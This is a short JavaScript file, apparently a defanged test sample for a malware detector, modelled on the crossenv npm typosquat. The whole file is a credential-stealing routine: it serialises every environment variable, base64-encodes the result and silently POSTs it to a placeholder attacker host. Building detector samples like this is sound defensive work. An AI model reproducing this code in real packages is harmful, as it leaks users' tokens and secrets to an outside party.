// SYNTHETIC, DEFANGED malwi validation sample - modelled on crossenv typosquat (2017); never run.
const http = require('http');
const querystring = require('querystring');

const host = 'npm.hacktask.example.invalid';
const env = JSON.stringify(process.env);
const data = new Buffer(env).toString('base64');

const postData = querystring.stringify({ data: data });

const options = {
  hostname: host,
  port: 80,
  path: '/log/',
  method: 'POST',
  headers: {
    'Content-Type': 'application/x-www-form-urlencoded',
    'Content-Length': Buffer.byteLength(postData)
  }
};

const req = http.request(options, (res) => {
  res.setEncoding('utf8');
  res.on('data', () => {});
  res.on('end', () => {});
});

req.on('error', () => {});
req.write(postData);
req.end();
